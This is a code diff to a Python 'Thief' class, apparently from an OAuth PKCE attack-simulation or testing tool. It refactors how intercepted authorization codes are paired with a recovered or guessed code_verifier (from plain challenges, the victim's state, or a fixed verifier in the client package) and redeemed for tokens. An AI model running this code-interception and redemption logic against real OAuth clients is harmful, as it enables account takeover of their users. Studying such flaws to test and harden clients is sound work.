@@ -11,11 +11,11 @@ from urllib.parse import urlencode
 
 import httpx
 
-from attacker.hunt import Finding, hunt
+from attacker.hunt import Finding, Method, hunt
 from attacker.loot import LootBag, LootItem, NothingCapturedError, Sighting
 from attacker.pkce import Pair, new_pair
 from attacker.vantage import Leg, Vantage
-from attacker.wiretap import arguments_of, overhears, sightings
+from attacker.wiretap import arguments_of, overhears, own_login, sightings
 from reports.records import Exchange, Handover
 
 VICTIMS_LEGS = (Leg.AUTHORIZATION_RESPONSE, Leg.AUTHORIZATION_REQUEST)
@@ -29,6 +29,7 @@ class Thief:
         self._http = http
         self._client = client
         self._metadata: dict[str, str] = {}
+        self._login: Sighting | None = None
         self._own_exchange = ""
         self._pair: Pair | None = None
 
@@ -61,15 +62,16 @@ class Thief:
     async def study_client(self) -> None:
         """Start a login of its own, and see how the client asks for a code.
 
-        Also reads the provider's discovery document (RFC 8414), which is public.
+        Also reads the provider's discovery document (RFC 8414), which is public, beside the
+        authorization endpoint. Raises :class:`NothingCapturedError`.
         """
-        if self._metadata:
+        if self._login is not None:
             return
-        await self._start_own_login()
-        endpoint = self._own_request().text.partition("?")[0]
-        issuer = endpoint.rpartition("/")[0]
+        login = await self._start_own_login()
+        issuer = login.text.partition("?")[0].rpartition("/")[0]
         answer = await self._http.get(f"{issuer}/.well-known/openid-configuration")
         self._metadata = answer.raise_for_status().json()
+        self._login = login
 
     async def redeem(self, code: LootItem, verifier: LootItem | None = None) -> LootItem | None:
         """Redeem a code (RFC 6749 section 4.1.3); the token, or ``None`` when it was refused."""
@@ -77,8 +79,8 @@ class Thief:
         form = {
             "grant_type": "authorization_code",
             "code": code.value,
-            "client_id": self.loot.need("client_id").value,
-            "redirect_uri": self.loot.need("redirect_uri").value,
+            "client_id": self.loot.need("client_id", Leg.OWN).value,
+            "redirect_uri": self.loot.need("redirect_uri", Leg.OWN).value,
         }
         if verifier is not None:
             form["code_verifier"] = verifier.value
@@ -96,12 +98,13 @@ class Thief:
             await self._http.get(self._metadata["userinfo_endpoint"], headers=bearer)
 
     def best_guess_at_verifier(self) -> LootItem | None:
-        """The victim's challenge, if it was seen: for ``plain`` it is the verifier itself."""
-        challenge = self.loot.find("code_challenge", Leg.AUTHORIZATION_REQUEST)
-        if challenge is None:
+        """The challenge behind the captured code, if it was seen: for ``plain``, the verifier."""
+        request = self._request_behind_code()
+        if request is None or "code_challenge" not in request.parameters:
             return None
-        where = f"guessed: the challenge, read in {challenge.where}"
-        return self._verifier(challenge.value, challenge.leg, challenge.seen_in, where)
+        where = f"guessed: the challenge, read in {request.where}"
+        challenge = request.parameters["code_challenge"]
+        return self._verifier(challenge, request.leg, request.seen_in, where)
 
     async def verifier_from_state(self) -> LootItem:
         """The verifier that the victim's redirect carries in ``state``.
@@ -110,8 +113,8 @@ class Thief:
         in the victim's ``state``. Raises :class:`NothingCapturedError`.
         """
         await self.study_client()
-        own = self.loot.need("state", Leg.OWN)
-        finding = await self._prove({own.where: own.value})
+        own = self._own_login()
+        finding = await _prove(own, {own.where: own.parameters.get("state", "")})
         theirs = self.loot.need("state", *VICTIMS_LEGS)
         verifier = finding.recipe.apply(theirs.value)
         if verifier is None:
@@ -122,34 +125,31 @@ class Thief:
     async def fixed_verifier(self) -> LootItem:
         """The one verifier that every copy of the client uses.
 
-        It shows itself on an own login with ``plain``; with ``S256`` in the code of the client.
-        Either way two logins of the thief's own prove it: the challenge does not change.
-        Raises :class:`NothingCapturedError`.
+        It shows itself on an own login with ``plain``; with ``S256`` in the code of the client,
+        for a thief whose vantage holds a copy. Either way two logins of the thief's own prove it:
+        the challenge does not change. Raises :class:`NothingCapturedError`.
         """
         await self.study_client()
-        await self._start_own_login()
-        own = [s for s in self.loot.sightings if s.leg is Leg.OWN and "response_type=" in s.text]
-        if len({sighting.parameters.get("code_challenge") for sighting in own}) != 1:
+        own, again = self._own_login(), await self._start_own_login()
+        if own.parameters.get("code_challenge") != again.parameters.get("code_challenge"):
             raise NothingCapturedError("the challenge changes from login to login: nothing fixed")
-        texts = {sighting.where: sighting.text for sighting in own}
-        seen_in = own[-1].seen_in
-        if self.loot.need("code_challenge_method", Leg.OWN).value != "plain":
+        texts = {again.where: again.text}
+        if _method(own) != Method.PLAIN:
             texts = await self._unpack_client()
-            seen_in = self._own_exchange
-        finding = await self._prove(texts)
+        seen_in = self._own_exchange
+        finding = await _prove(own, texts)
         where = f"{finding.source} > {finding.recipe}"
         return self._verifier(finding.verifier, Leg.OWN, seen_in, where)
 
     def build_authorization_request(self) -> str:
         """An authorization request in the client's name with a challenge of the thief's own.
 
-        RFC 8252 section 8.6. Needs :meth:`study_client`.
+        RFC 8252 section 8.6. Raises :class:`NothingCapturedError` before :meth:`study_client`.
         """
-        template = self._own_request()
+        template = self._own_login()
         request = dict(template.parameters)
         if "code_challenge" in request:
-            method = request.get("code_challenge_method", "plain")
-            self._pair = new_pair(method)
+            self._pair = new_pair(_method(template))
             request["code_challenge"] = self._pair.challenge
         endpoint = template.text.partition("?")[0]
         return f"{endpoint}?{urlencode(request)}"
@@ -160,30 +160,58 @@ class Thief:
             return None
         return self._verifier(self._pair.verifier, Leg.OWN, self._own_exchange, "chosen by itself")
 
-    async def _start_own_login(self) -> None:
-        answer = await self._http.get(self._client)
-        if not answer.is_redirect:
-            raise NothingCapturedError(f"the client answered {answer.status_code} to a login")
+    def _request_behind_code(self) -> Sighting | None:
+        """The newest request that was seen, with the ``state`` that came back beside the code."""
+        state = self.loot.find("state", Leg.AUTHORIZATION_RESPONSE)
+        for sighting in reversed(self.loot.sightings):
+            if sighting.leg is Leg.AUTHORIZATION_REQUEST and (
+                state is None or sighting.parameters.get("state") == state.value
+            ):
+                return sighting
+        return None
 
-    def _own_request(self) -> Sighting:
-        return next(sighting for sighting in self.loot.sightings if sighting.leg is Leg.OWN)
+    async def _start_own_login(self) -> Sighting:
+        answer = await self._http.get(self._client)
+        login = own_login(self._own_exchange, answer.headers.get("location", ""))
+        if login is None:
+            raise NothingCapturedError(
+                f"the client answered {answer.status_code} to a login, without sending the thief "
+                "to a provider"
+            )
+        self.loot.show(login)
+        return login
+
+    def _own_login(self) -> Sighting:
+        if self._login is None:
+            raise NothingCapturedError("the thief has not studied the client yet")
+        return self._login
 
     async def _unpack_client(self) -> dict[str, str]:
+        if not self.vantage.unpacks_app:
+            raise NothingCapturedError("this thief holds no copy of the client")
         answer = await self._http.get(f"{self._client}/package.zip")
         with zipfile.ZipFile(io.BytesIO(answer.raise_for_status().content)) as package:
             return {name: package.read(name).decode("latin-1") for name in package.namelist()}
 
-    async def _prove(self, texts: dict[str, str]) -> Finding:
-        challenge = self.loot.need("code_challenge", Leg.OWN).value
-        method = self.loot.need("code_challenge_method", Leg.OWN).value
-        # The search hashes a lot; the proxy and the browsers share this event loop.
-        finding = await asyncio.to_thread(hunt, texts, challenge, method)
-        if finding is None:
-            raise NothingCapturedError("nothing the thief has seen hashes to the challenge")
-        return finding
-
     def _verifier(self, value: str, leg: Leg, seen_in: str, where: str) -> LootItem:
         return self.loot.add(LootItem("code_verifier", value, leg, seen_in, where))
+
+
+async def _prove(login: Sighting, texts: dict[str, str]) -> Finding:
+    """The verifier of this login's challenge, found in one of the texts."""
+    if "code_challenge" not in login.parameters:
+        raise NothingCapturedError("the client uses no PKCE, so there is no verifier")
+    # The search hashes a lot; the proxy and the browsers share this event loop.
+    challenge = login.parameters["code_challenge"]
+    finding = await asyncio.to_thread(hunt, texts, challenge, _method(login))
+    if finding is None:
+        raise NothingCapturedError("nothing the thief has seen hashes to the challenge")
+    return finding
+
+
+def _method(login: Sighting) -> str:
+    # RFC 7636 section 4.3: left out, it is plain.
+    return login.parameters.get("code_challenge_method", Method.PLAIN)
 
 
 def _member(answer: httpx.Response, name: str) -> str | None:
